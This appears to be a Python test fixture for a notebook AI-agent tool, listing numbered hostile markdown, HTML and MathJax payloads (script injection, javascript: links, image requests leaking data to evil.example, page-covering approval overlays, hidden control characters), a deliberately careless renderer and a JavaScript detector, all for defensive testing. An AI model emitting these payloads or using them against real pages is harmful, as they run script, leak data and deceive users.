"""Attacks that a hostile model, tool or file could send, and how to detect that one succeeded.

`PAYLOADS` are numbered. A payload that runs calls `hit(number)`, one that loads something requests
`evil.example/number`, and the others leave something in the page that `FOUND` finds. `naive` renders like a careless
notebook tool: `tests/browser/test_hostile.py` shows that all attacks succeed there, and then that none does in ours.
"""

from __future__ import annotations

import re
from typing import NamedTuple

from markdown_it import MarkdownIt

HOST = "evil.example"


class Payload(NamedTuple):
    """`text` is what the model says; `effect` is what happens if it is rendered carelessly.

    runs: it calls `hit` by itself · clicked: it does so when its link or button is clicked · loads: it sends a request
    to a foreign server · covers: it covers the page · link: its link is not a web address · control: its characters
    hide or reorder text.
    """

    number: int
    effect: str
    text: str


_EFFECTS = {
    "runs": [
        "<script>hit(N)</script>",
        "</pre></details></div></td></style></textarea></title><script>hit(N)</script>",
        "<img src=x onerror=hit(N)>",
        "<svg onload=hit(N)></svg>",
        "<svg><script>hit(N)</script></svg>",
        "<math><mtext></p><img src=x onerror=hit(N)></mtext></math>",
        "<details open ontoggle=hit(N)>x</details>",
        "<iframe onload=hit(N)></iframe>",
        "<iframe srcdoc='<script>parent.hit(N)</script>'></iframe>",
        "<iframe src=javascript:parent.hit(N)></iframe>",
        "<style>@keyframes k{}</style><p style='animation:k 1ms' onanimationstart=hit(N)>x</p>",
    ],
    "clicked": [
        "[x](javascript:hit(N))",
        "[x](JaVaScRiPt:hit(N))",
        "[x](javascript&colon;hit(N))",
        "[x](java&Tab;script:hit(N))",
        "[x](<java&NewLine;script:hit(N)>)",
        "<javascript:hit(N)>",
        "[x][rN]\n\n[rN]: javascript:hit(N)",
        "<a href=javascript:hit(N)>x</a>",
        "<a href=' &#14; java\tscript:hit(N)'>x</a>",
        "<form><button formaction=javascript:hit(N)>x</button></form>",
        "<p onclick=hit(N)><a>x</a></p>",
    ],
    "loads": [
        "![x](http://evil.example/N?secret)",
        "![x](//evil.example/N)",
        "![x][iN]\n\n[iN]: http://evil.example/N",
        "[![x](http://evil.example/N)](http://example.org)",
        "| a |\n|---|\n| ![x](http://evil.example/N) |",
        "<img src=http://evil.example/N>",
        "<object data=http://evil.example/N></object>",
        "<iframe src=http://evil.example/N></iframe>",
        "<script src=//evil.example/N></script>",
        "<style>@import url(http://evil.example/N);</style>",
        "<p style='background:url(http://evil.example/N)'>x</p>",
        "<base href=http://evil.example/><img src=N>",
        "<meta http-equiv=refresh content='0;url=http://evil.example/N'>",
    ],
    "covers": [
        "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>Approve? Yes</div>",
        "<style>div{position:fixed !important;inset:0}</style><div>x</div>",
    ],
    "link": [
        "[x](data:text/html,<script>hit(N)</script>)",
        "<a href='data:text/html,<script>hit(N)</script>'>x</a>",
        "[x](vbscript:hit(N))",
        "[x](file:///etc/passwd)",
        "[x](/logout?N)",
        "[x](../../hub/logout?N)",
        "<vscode://file/N>",
        "<a href=# data-commandlinker-command=notebook:run-all-cells>x</a>",
    ],
    "control": [
        "\x1b[31mred\x1b[0m N",
        "\x1b]0;title\x07 N",
        "\x1b]8;;http://evil.example/N\x1b\\x\x1b]8;;\x1b\\",
        "\x9b2J\x1bc N",
        "safe\x08\x08\x08\x08evil N",
        "photo\u202egnp.exe N",
        "| \u202dabc\u202c |\n|---|\n| N |",
        "wi\u200bpe \u2060 \ufeff N",
        "tagged\U000e0072\U000e006d N",
    ],
}  # fmt: skip

_TEXTS = [(effect, text) for effect, texts in _EFFECTS.items() for text in texts]
PAYLOADS = [
    Payload(number, effect, re.sub(r"\bN\b|(?<=\[[ri])N", str(number), text))
    for number, (effect, text) in enumerate(_TEXTS)
]

#: What MathJax, which typesets the formulas of an answer, would do with a link, a style, a class, a macro.
MATH = [
    r"$\href{javascript:hit(1)}{x}$",
    r"$$\href{http://evil.example/m2}{\text{log in}}$$",
    r"\\(\style{position:fixed;inset:0;background:url(http://evil.example/m3)}{x}\\)",
    r"\\[\class{jp-Button}{x}\\]",
    r"$\cssId{main}{x}$",
    r"$\unicode[url(http://evil.example/m6)]{x41}$",
    r"$\require{bbox}\bbox[background:url(http://evil.example/m7)]{x}$",
    r"$\gdef\alpha{\text{lie}}\renewcommand{\beta}{\text{lie}}\let\gamma\delta$",
    "\\begin{align}\\href{javascript:hit(9)}{x}\\end{align}",
    r"$\Newextarrow{\frac}{5,5}{0x2194}\DeclarePairedDelimiterXPP{\sqrt}[1]{}{(}{)}{}{#1}\mathtoolsset{centercolon}$",
    r"$\definecolor{black}{rgb}{1,1,1}$",
    r"$\texttt{&#92;href}\h*re*f &#92;href{javascript:hit(10)}{x}$",
]


def naive(text: str) -> str:
    """Markdown as careless tools render it: with raw HTML and any links."""
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table"])
    parser.validateLink, parser.normalizeLink = lambda url: True, lambda url: url
    return parser.render(text)


#: JavaScript: what is wrong with the elements below some roots, as a list of strings.
FOUND = r"""roots => {
  const found = new Set()
  const live = "script iframe object embed link meta base form input button svg math audio video style dialog"
  const tags = live.split(" "), web = /^(https?|mailto):/, image = /^data:image\/(png|gif|jpeg|webp);/
  const ours = /^((text-align|white-space|left|width): ?[\w.%]+;? ?)+$/
  for (const root of roots) {
    for (const each of [root, ...root.querySelectorAll("*")]) {
      const tag = each.tagName.toLowerCase(), formula = each.closest("mjx-container")
      const rows = ":is(.nbagent-foot[data-nbagent-run], .nbagent-on-code) > .nbagent-buttons"
      const buttons = `${rows}, .nbagent-actions, .nbagent-saving`
      const asked = "[data-nbagent-asked-in] > .nbagent-link, .nbagent-trace .nbagent-timeline > [data-turn]"
      const added = each.closest(`${buttons}, ${asked}`)
      if (tags.includes(tag) && !formula && !added) found.add("element " + tag)
      if (/^(fixed|sticky)$/.test(getComputedStyle(each).position)) found.add("covers " + tag)
      for (const {name, value} of each.attributes) {
        if (name.startsWith("on") || name.startsWith("data-command")) found.add("attribute " + name)
        if (name == "style" && !formula && !ours.test(value)) found.add("style " + value)
        if (name == "class" && /\bjp-/.test(value)) found.add("class " + value)
        if (/^(xlink:)?href$|^action$|^formaction$/.test(name) && !web.test(value)) found.add("link " + value)
        if (/^(src|srcset|poster|data|background)$/.test(name) && !image.test(value)) found.add(name + " " + value)
      }
      const opens = each.target == "_blank" && each.rel?.includes("noopener")
      if (tag == "a" && each.href && !opens) found.add("opener " + each.outerHTML)
    }
    const hidden = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff\udb40]/
    const control = root.textContent.match(hidden)
    if (control) found.add("control " + control[0].charCodeAt(0).toString(16))
  }
  return [...found]
}"""
